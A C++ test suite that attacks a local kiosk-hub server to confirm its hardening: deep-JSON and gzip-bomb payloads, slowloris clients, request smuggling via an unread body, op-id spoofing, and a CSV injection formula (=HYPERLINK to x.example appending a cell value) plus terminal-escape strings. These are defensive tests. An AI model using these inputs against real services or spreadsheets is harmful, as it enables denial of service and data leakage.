// A hostile HTTP client or kiosk against a real kiosk-hub on 127.0.0.1 (security issue, items 1,
// 2, 3, 5, 7, 11): deeply nested JSON, compressed bodies, slow clients, a body the hub refused to
// read, another kiosk's op id, and the modes of the files that hold visitors' data. Each case failed against the hub before the
// fix (cpp-httplib: a stack overflow, a 1 GB inflate, 64 threads held by 64 slow clients, the
// unread body answered as a second request, 0644 files).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include <catch2/catch_test_macros.hpp>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <memory>
#include <thread>

#include "base/json.h"
#include "content/bookings.h"
#include "content/db.h"
#include "sync/client.h"
#include "sync/gzip.h"
#include "sync/http_client.h"
#include "sync/protocol.h"
#include "sync/hub_rate_limit.h"
#include "sync/hub_store.h"
#include "sync_support.h"

using nlohmann::json;
using synctest::HubProcess;

namespace {

// A TCP connection to 127.0.0.1:port from the given local address (127.0.0.x: the loopback range
// stands in for distinct peers).
class RawClient {
public:
    RawClient(int port, const char* from = "127.0.0.1") {
        fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in local{};
        local.sin_family = AF_INET;
        inet_pton(AF_INET, from, &local.sin_addr);
        ::bind(fd_, reinterpret_cast<sockaddr*>(&local), sizeof local);
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons((uint16_t)port);
        inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
        connected_ = ::connect(fd_, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0;
    }
    ~RawClient() {
        if (fd_ >= 0) ::close(fd_);
    }
    bool connected() const { return connected_; }
    bool Send(const std::string& bytes) {
        return ::send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL) == (ssize_t)bytes.size();
    }
    // Everything until the peer closes or `timeout_ms` passes without a byte.
    std::string ReadAll(int timeout_ms) {
        std::string out;
        char buffer[65536];
        while (true) {
            pollfd p{fd_, POLLIN, 0};
            if (::poll(&p, 1, timeout_ms) <= 0) break;
            ssize_t n = ::recv(fd_, buffer, sizeof buffer, 0);
            if (n <= 0) {
                closed_ = true;
                break;
            }
            out.append(buffer, (size_t)n);
        }
        return out;
    }
    bool closed() const { return closed_; }
    // True when the peer closed the connection within `timeout_ms`.
    bool ClosedWithin(int timeout_ms) {
        ReadAll(timeout_ms);
        return closed_;
    }

private:
    int fd_ = -1;
    bool connected_ = false;
    bool closed_ = false;
};

int CountResponses(const std::string& bytes) {
    int count = 0;
    for (size_t at = bytes.find("HTTP/1.1 "); at != std::string::npos; at = bytes.find("HTTP/1.1 ", at + 1)) ++count;
    return count;
}

std::string Nested(int depth) { return std::string((size_t)depth, '[') + std::string((size_t)depth, ']'); }

std::string Post(const std::string& path, const std::string& token, const std::string& body,
                 const std::string& extra_headers = "") {
    std::string request = "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n";
    if (!token.empty()) request += "Authorization: Bearer " + token + "\r\n";
    request += extra_headers;
    request += "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
    return request;
}

std::string HealthRequest(const std::string& token) {
    return "GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer " + token + "\r\n\r\n";
}

int64_t RssKiB(pid_t pid) {
    std::ifstream status("/proc/" + std::to_string(pid) + "/status");
    std::string line;
    while (std::getline(status, line)) {
        if (line.rfind("VmRSS:", 0) == 0) return std::stoll(line.substr(6));
    }
    return -1;
}

int Mode(const std::string& path) {
    struct stat st;
    REQUIRE(::stat(path.c_str(), &st) == 0);
    return (int)(st.st_mode & 0777);
}

// A hub with the demo content, one enrolled kiosk, and a configuration with short deadlines.
struct HostileHub {
    std::string dir = synctest::TempDir("hostile");
    std::string db = dir + "/hub.db";
    std::string token;
    HubProcess hub;

    explicit HostileHub(const std::string& config_json = R"({"header_timeout_s": 2, "body_timeout_s": 3,
        "max_connections_per_address": 16})") {
        synctest::Hub(db, {"import-hsds", std::string(KIOSK_SOURCE_DIR) + "/content/demo/demo.json"});
        token = synctest::Enrol(db, "lobby-1");
        std::ofstream(dir + "/hub.json") << config_json;
        hub.Start(db, {}, dir + "/hub.json");
    }
};

}  // namespace

TEST_CASE("JSON nested deeper than 64 levels is refused before a value is built", "[unit]") {
    CHECK(base::ParseJson(Nested(64)).ok());
    auto deep = base::ParseJson(Nested(65));
    REQUIRE_FALSE(deep.ok());
    CHECK(deep.error().code == "json_too_deep");
    auto very_deep = base::ParseJson(Nested(60000));
    REQUIRE_FALSE(very_deep.ok());
    CHECK(very_deep.error().code == "json_too_deep");
    CHECK(base::ParseJsonOrDiscarded(Nested(60000)).is_discarded());
    CHECK(base::ParseJson("{\"a\": [1, 2").error().code == "json_invalid");
    // Objects count as levels too.
    std::string objects;
    for (int i = 0; i < 100; ++i) objects += "{\"a\":";
    objects += "1" + std::string(100, '}');
    CHECK(base::ParseJson(objects).error().code == "json_too_deep");

    // The push decoder, with a booking payload nested 60 000 levels deep (120 KB).
    std::string push = R"({"kiosk_time": 1, "ops": [{"op_id": "op-1", "kind": "booking", "created_at": 1, "payload": )" +
                       Nested(60000) + "}]}";
    auto decoded = ksync::DecodePushRequest(push);
    REQUIRE_FALSE(decoded.ok());
    CHECK(decoded.error().code == "proto_too_deep");
}

TEST_CASE("hub: a push nested 60 000 levels deep is answered 400 and the hub goes on serving", "[e2e]") {
    HostileHub h;
    std::string push = R"({"kiosk_time": 1, "ops": [{"op_id": "op-1", "kind": "booking", "created_at": 1, "payload": )" +
                       Nested(60000) + "}]}";
    RawClient client(h.hub.port());
    REQUIRE(client.Send(Post("/v1/push", h.token, push)));
    std::string answer = client.ReadAll(5000);
    CHECK(answer.find("HTTP/1.1 400") == 0);
    CHECK(answer.find("proto_too_deep") != std::string::npos);
    RawClient next(h.hub.port());
    REQUIRE(next.Send(HealthRequest(h.token)));
    CHECK(next.ReadAll(5000).find("HTTP/1.1 200") == 0);
}

TEST_CASE("hub: a compressed request body is refused unread, whatever it would inflate to", "[e2e]") {
    HostileHub h;
    // 1 MB of gzip that inflates to about 1 GB.
    std::string zeros(64u << 20, '\0');
    std::string chunk = ksync::GzipCompress(zeros).value();
    std::string bomb;
    while (bomb.size() + chunk.size() < (1u << 20) - 1024) bomb += chunk;
    int64_t rss_before = RssKiB(h.hub.pid());
    for (int i = 0; i < 3; ++i) {
        RawClient client(h.hub.port());
        REQUIRE(client.Send(Post("/v1/push", h.token, bomb, "Content-Encoding: gzip\r\n")));
        std::string answer = client.ReadAll(5000);
        CHECK(answer.find("HTTP/1.1 415") == 0);
        CHECK(answer.find("unsupported_encoding") != std::string::npos);
        CHECK(client.closed());
    }
    // Nothing was inflated: the hub grew by far less than one inflated body.
    CHECK(RssKiB(h.hub.pid()) - rss_before < 64 * 1024);
}

TEST_CASE("kiosk: a gzip response that inflates past the limit is refused, not held in memory", "[faults]") {
    // A one-shot raw server answering with a gzip bomb.
    int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    inet_pton(AF_INET, "127.0.0.1", &address.sin_addr);
    REQUIRE(::bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0);
    REQUIRE(::listen(listener, 4) == 0);
    socklen_t length = sizeof address;
    ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length);
    int port = ntohs(address.sin_port);
    std::string bomb = ksync::GzipCompress(std::string(256u << 20, ' ')).value();
    std::thread server([&] {
        int fd = ::accept(listener, nullptr, nullptr);
        char buffer[4096];
        (void)::recv(fd, buffer, sizeof buffer, 0);
        std::string head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: " +
                           std::to_string(bomb.size()) + "\r\nConnection: close\r\n\r\n";
        (void)::send(fd, head.data(), head.size(), MSG_NOSIGNAL);
        (void)::send(fd, bomb.data(), bomb.size(), MSG_NOSIGNAL);
        ::close(fd);
    });
    ksync::HttpOptions options;
    options.base_url = "http://127.0.0.1:" + std::to_string(port);
    options.bearer_token = "t";
    options.max_response_bytes = 8u << 20;
    ksync::HttpClient client(options);
    auto response = client.Get("/v1/changes");
    server.join();
    ::close(listener);
    REQUIRE_FALSE(response.ok());
    CHECK(response.error().code == "http_response_too_large");
}

TEST_CASE("hub: an unread body after an early refusal is never answered as a second request", "[e2e]") {
    HostileHub h;
    // Refused for its missing token before the body is read; the body is a whole valid request.
    std::string smuggled = HealthRequest(h.token);
    RawClient client(h.hub.port());
    REQUIRE(client.Send(Post("/v1/push", "", smuggled)));
    std::string answer = client.ReadAll(3000);
    CHECK(answer.find("HTTP/1.1 401") == 0);
    CHECK(CountResponses(answer) == 1);
    CHECK(client.closed());
    // The same with a body that arrives after the refusal.
    RawClient late(h.hub.port());
    std::string head = "POST /v1/push HTTP/1.1\r\nHost: x\r\nContent-Length: " + std::to_string(smuggled.size()) + "\r\n\r\n";
    REQUIRE(late.Send(head));
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
    late.Send(smuggled);
    std::string late_answer = late.ReadAll(3000);
    CHECK(CountResponses(late_answer) == 1);
    CHECK(late_answer.find("HTTP/1.1 401") == 0);
}

TEST_CASE("hub: 200 slow clients without a token do not keep real kiosks from syncing", "[e2e]") {
    HostileHub h;
    // The normal time: a first sync of the demo content with nobody else on the hub (seconds
    // under ASan on a busy machine, a fraction of one in a release build).
    auto timed_sync = [&](const std::string& name, const std::string& token) {
        std::string kiosk_db = h.dir + "/" + name + ".db";
        auto started = std::chrono::steady_clock::now();
        auto run = synctest::KioskSync(kiosk_db, h.hub.url(), token, {"once"}, 60000);
        double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
        INFO(run.out << run.err);
        CHECK(run.exit_code == 0);
        CHECK(synctest::ContentDigest(kiosk_db) == synctest::ContentDigest(h.db));
        return seconds;
    };
    const double normal = timed_sync("k0", synctest::Enrol(h.db, "k0"));
    // 200 connections sending one header byte a second: 100 from one address, 100 from 100 other
    // addresses (each under the per-address limit, so only the event loop protects the hub).
    std::vector<std::unique_ptr<RawClient>> slow;
    for (int i = 0; i < 100; ++i) slow.push_back(std::make_unique<RawClient>(h.hub.port(), "127.0.0.2"));
    for (int i = 0; i < 100; ++i) {
        std::string from = "127.0.1." + std::to_string(i + 1);
        slow.push_back(std::make_unique<RawClient>(h.hub.port(), from.c_str()));
    }
    std::atomic<bool> stop{false};
    std::thread dribble([&] {
        const std::string line = "GET /v1/health HTTP/1.1\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
        for (size_t at = 0; at < line.size() && !stop; ++at) {
            for (auto& client : slow) client->Send(line.substr(at, 1));
            for (int i = 0; i < 10 && !stop; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(100));
        }
    });
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    // Of the 100 from one address at most 16 were let in (per-address limit); the other 100 are
    // all open. All are cut off at the 2 s header deadline although they keep sending.
    int open = 0;
    for (auto& client : slow) {
        if (!client->ClosedWithin(10)) ++open;
    }
    CHECK(open <= 116);
    CHECK(open >= 100);

    // Two real kiosks sync the whole demo content in about their normal time (the cpp-httplib
    // hub served none of them while 64 slow clients were connected).
    for (const char* name : {"k1", "k2"}) {
        std::string token = name == std::string("k1") ? h.token : synctest::Enrol(h.db, name);
        double seconds = timed_sync(name, token);
        INFO("normal " << normal << " s, with 200 slow clients " << seconds << " s");
        CHECK(seconds < 2 * normal + 1.0);
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(2500));
    int still_open = 0;
    for (auto& client : slow) {
        if (!client->ClosedWithin(10)) ++still_open;
    }
    CHECK(still_open == 0);
    stop = true;
    dribble.join();
}

TEST_CASE("hub and kiosk files that hold visitors' data are the owner's only, whatever the umask", "[e2e]") {
    mode_t old_umask = ::umask(0);
    HostileHub h;
    // A sync, so both databases have written their WAL.
    std::string kiosk_db = h.dir + "/kiosk.db";
    REQUIRE(synctest::KioskSync(kiosk_db, h.hub.url(), h.token, {"once"}).exit_code == 0);
    CHECK(Mode(h.db) == 0600);
    CHECK(Mode(kiosk_db) == 0600);
    for (const char* suffix : {"-wal", "-shm"}) {
        if (std::filesystem::exists(h.db + suffix)) CHECK(Mode(h.db + suffix) == 0600);
        if (std::filesystem::exists(kiosk_db + suffix)) CHECK(Mode(kiosk_db + suffix) == 0600);
    }
    std::string out = h.dir + "/bookings.csv";
    synctest::Hub(h.db, {"bookings", "--format", "csv", "--out", out});
    CHECK(Mode(out) == 0600);
    h.hub.Stop();
    // A database an older version left readable by everyone is made private when opened.
    ::chmod(h.db.c_str(), 0644);
    REQUIRE(content::Db::Open(h.db).ok());
    CHECK(Mode(h.db) == 0600);
    ::chmod(h.db.c_str(), 0660);
    REQUIRE(content::Db::Open(h.db).ok());
    CHECK(Mode(h.db) == 0600);
    ::umask(old_umask);
}

TEST_CASE("hub: a kiosk that sends another kiosk's op id first cannot make the real booking a duplicate", "[hub]") {
    std::string dir = synctest::TempDir("hostile-opid");
    auto hub = ksync::HubStore::Setup(dir + "/hub.db");
    REQUIRE(hub.ok());
    synctest::WriteContent(hub->db(), 2, /*capacity=*/5);
    REQUIRE(hub->Enrol("victim", 1).ok());
    REQUIRE(hub->Enrol("thief", 1).ok());
    auto booking = [](const std::string& name) {
        ksync::PushRequest request;
        request.ops = {{"op-7f3a", "booking", "b-" + name,
                        json{{"booking_id", "b-" + name}, {"reference", "NIC-" + name}, {"session_id", "sess-1"},
                             {"values", {{"name", name}, {"phone", "+371 20000000"}}}},
                        100}};
        return request;
    };
    auto stolen = hub->ApplyPush("thief", booking("thief"), 1000);
    REQUIRE(stolen.ok());
    auto real = hub->ApplyPush("victim", booking("victim"), 1001);
    REQUIRE(real.ok());
    CHECK(real->results[0].outcome == ksync::OpOutcome::Accepted);
    auto replay = hub->ApplyPush("victim", booking("victim"), 1002);
    REQUIRE(replay.ok());
    CHECK(replay->results[0].outcome == ksync::OpOutcome::Duplicate);
    CHECK(replay->results[0].original == ksync::OpOutcome::Accepted);
    CHECK(hub->db().QueryInt("SELECT count(*) FROM op_inbox WHERE kiosk = 'victim' AND reference = 'NIC-victim'").value() == 1);
    CHECK(hub->db().QueryInt("SELECT seats_taken FROM course_session WHERE id = 'sess-1'").value() == 2);
}

TEST_CASE("hub: an inbox keyed on op_id alone (older hubs) is re-keyed per kiosk with its rows", "[hub]") {
    std::string dir = synctest::TempDir("hostile-inbox-migrate");
    std::string path = dir + "/hub.db";
    {
        auto db = content::Db::Open(path);
        REQUIRE(db.ok());
        REQUIRE(db->Exec("CREATE TABLE op_inbox (op_id TEXT PRIMARY KEY, kiosk TEXT NOT NULL, kind TEXT NOT NULL, "
                         "ref_id TEXT, booking_id TEXT, reference TEXT, session_id TEXT, service_id TEXT, form_id TEXT, "
                         "lang TEXT, payload TEXT NOT NULL, created_at INTEGER NOT NULL, received_at INTEGER NOT NULL, "
                         "result TEXT NOT NULL, reason TEXT, handled_at INTEGER) WITHOUT ROWID; "
                         "INSERT INTO op_inbox VALUES ('op-1', 'k1', 'booking', 'b1', 'b1', 'NIC-1', NULL, NULL, NULL, "
                         "'lv', '{}', 1, 2, 'accepted', NULL, NULL);")
                    .ok());
    }
    auto hub = ksync::HubStore::Setup(path);
    REQUIRE(hub.ok());
    CHECK(hub->db().QueryInt("SELECT count(*) FROM pragma_table_info('op_inbox') WHERE pk > 0").value() == 2);
    CHECK(hub->db().QueryInt("SELECT count(*) FROM op_inbox WHERE op_id = 'op-1' AND kiosk = 'k1' AND reference = 'NIC-1'").value() == 1);
    // A second start leaves it as it is.
    REQUIRE(ksync::HubStore::Setup(path).ok());
}

TEST_CASE("hub: formulas, NUL, bidi overrides and terminal escapes never reach a spreadsheet or a terminal", "[e2e]") {
    std::string dir = synctest::TempDir("hostile-output");
    std::string path = dir + "/hub.db";
    {
        auto hub = ksync::HubStore::Setup(path);
        REQUIRE(hub.ok());
        synctest::WriteContent(hub->db(), 1, 5);
        REQUIRE(hub->Enrol("k1", 1).ok());
        auto op = [](const std::string& id, const std::string& name, int64_t created_at) {
            return ksync::PushOp{id, "booking", "b-" + id,
                                 json{{"booking_id", "b-" + id}, {"reference", "NIC-" + id},
                                      {"values", {{"name", name}, {"phone", "+371 20000000"}}}},
                                 created_at};
        };
        ksync::PushRequest request;
        request.ops = {op("formula", "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", 1700000000),
                       op("override", "Anna \xe2\x80\xae" "anivreB", 1700000000),
                       op("nul", std::string("Anna\0x", 6), 1700000000),
                       op("clock", "Anna", 5)};
        request.health = ksync::HealthReport{"\x1b]0;owned\x07\x1b[2J1.0", 1, 0, 1, 1, 1, "ok\x1b[31m", "\xc2\x9b" "1m"};
        auto response = hub->ApplyPush("k1", request, 1800000000);
        REQUIRE(response.ok());
        CHECK(response->results[0].outcome == ksync::OpOutcome::Accepted);
        CHECK(response->results[1].outcome == ksync::OpOutcome::Rejected);
        CHECK(response->results[1].reason == "invalid_text");
        CHECK(response->results[2].reason == "invalid_text");
        // A created_at in 1970 is replaced by the hub's time, the booking kept.
        CHECK(response->results[3].outcome == ksync::OpOutcome::Accepted);
        CHECK(hub->db().QueryInt("SELECT created_at FROM op_inbox WHERE op_id = 'clock'").value() == 1800000000);
    }
    std::string csv = synctest::Hub(path, {"bookings", "--format", "csv"}).out;
    CHECK(csv.find(",\"'=HYPERLINK(") != std::string::npos);
    CHECK(csv.find(",\"=HYPERLINK(") == std::string::npos);
    std::string kiosks = synctest::Hub(path, {"kiosks"}).out;
    CHECK(kiosks.find('\x1b') == std::string::npos);
    CHECK(kiosks.find('\x07') == std::string::npos);
    CHECK(kiosks.find("\xc2\x9b") == std::string::npos);
    CHECK(kiosks.find("1.0") != std::string::npos);

    // What arrives over the wire is neutralised on input already, and absurd times are refused.
    std::string push = R"({"ops": [], "health": {"firmware": "\u001b[2Jfw", "content_seq": 1, "outbox_depth": 0,
        "uptime_s": 1, "free_disk_bytes": 1, "last_success_at": 1, "last_result": "ok", "last_error": ""}})";
    auto decoded = ksync::DecodePushRequest(push);
    REQUIRE(decoded.ok());
    CHECK(decoded->health->firmware == "\xEF\xBF\xBD[2Jfw");
    auto far = ksync::DecodePushRequest(
        R"({"ops": [{"op_id": "a", "kind": "booking", "created_at": 99999999999999, "payload": {}}]})");
    CHECK_FALSE(far.ok());
}

TEST_CASE("rate limits per kiosk: token buckets for requests and bookings", "[hub]") {
    ksync::HubRateLimiter limiter({6, 4});
    auto t0 = ksync::HubRateLimiter::Clock::now();
    for (int i = 0; i < 6; ++i) CHECK(limiter.TakeRequest("a", t0) == 0);
    int wait = limiter.TakeRequest("a", t0);
    CHECK(wait >= 1);
    CHECK(wait <= 10);
    CHECK(limiter.TakeRequest("b", t0) == 0);  // each kiosk has its own
    CHECK(limiter.TakeRequest("a", t0 + std::chrono::seconds(10)) == 0);  // 6 a minute: one per 10 s
    CHECK(limiter.TakeBookings("a", 3, t0) == 0);
    CHECK(limiter.TakeBookings("a", 2, t0) > 0);
    CHECK(limiter.TakeBookings("a", 0, t0) == 0);
    // A batch bigger than the reserve passes once the reserve is full again, and empties it.
    CHECK(limiter.TakeBookings("a", 50, t0 + std::chrono::minutes(30)) > 0);
    CHECK(limiter.TakeBookings("a", 50, t0 + std::chrono::hours(2)) == 0);
    CHECK(limiter.TakeBookings("a", 1, t0 + std::chrono::hours(2)) > 0);
}

TEST_CASE("hub: a kiosk over its limits gets 429 with Retry-After and loses nothing", "[e2e]") {
    std::string dir = synctest::TempDir("hostile-rate");
    std::string hub_db = dir + "/hub.db";
    std::string token;
    {
        auto hub = ksync::HubStore::Setup(hub_db);
        REQUIRE(hub.ok());
        synctest::WriteContent(hub->db(), 1, /*capacity=*/10);
        token = hub->Enrol("k1", 1).value();
    }
    std::ofstream(dir + "/hub.json") << R"({"rate_requests_per_minute": 8, "rate_bookings_per_hour": 2})";
    HubProcess hub;
    hub.Start(hub_db, {}, dir + "/hub.json");
    std::string kiosk_db = dir + "/kiosk.db";
    REQUIRE(synctest::KioskSync(kiosk_db, hub.url(), token, {"once"}).exit_code == 0);
    // Three bookings on the kiosk; the hub takes two an hour.
    {
        auto db = content::Db::Open(kiosk_db);
        REQUIRE(db.ok());
        for (int i = 0; i < 3; ++i) {
            content::BookingRequest request;
            request.form_id = "form-1";
            request.session_id = "sess-1";
            request.values = {{"name", "Anna"}, {"phone", "+371 2000000" + std::to_string(i)}};
            REQUIRE(content::SubmitBooking(*db, request, (int64_t)std::time(nullptr)).ok());
        }
    }
    ksync::ClientConfig config;
    config.db_path = kiosk_db;
    config.hub_url = hub.url();
    config.token = token;
    config.push_batch = 2;
    auto session = ksync::SyncSession::Open(config);
    REQUIRE(session.ok());
    // Batches of two: the first is taken, the second answered 429 and kept for the next try.
    auto first = (*session)->Push(std::nullopt);
    REQUIRE_FALSE(first.ok());
    CHECK(first.error().code == "hub_rate_limited");
    auto depth = [&] { return content::OutboxDepth((*session)->db()).value(); };
    CHECK(depth() == 1);
    auto second = (*session)->Push(std::nullopt);
    REQUIRE_FALSE(second.ok());
    CHECK(second.error().code == "hub_rate_limited");
    CHECK(depth() == 1);

    // Requests: a burst past 8 a minute is answered 429 with Retry-After, before the body is read.
    int limited = 0;
    std::string last;
    for (int i = 0; i < 12; ++i) {
        RawClient client(hub.port());
        REQUIRE(client.Send(HealthRequest(token)));
        std::string answer = client.ReadAll(2000);
        if (answer.find("HTTP/1.1 429") == 0) {
            ++limited;
            last = answer;
        }
    }
    CHECK(limited >= 3);
    CHECK(last.find("Retry-After: ") != std::string::npos);
}
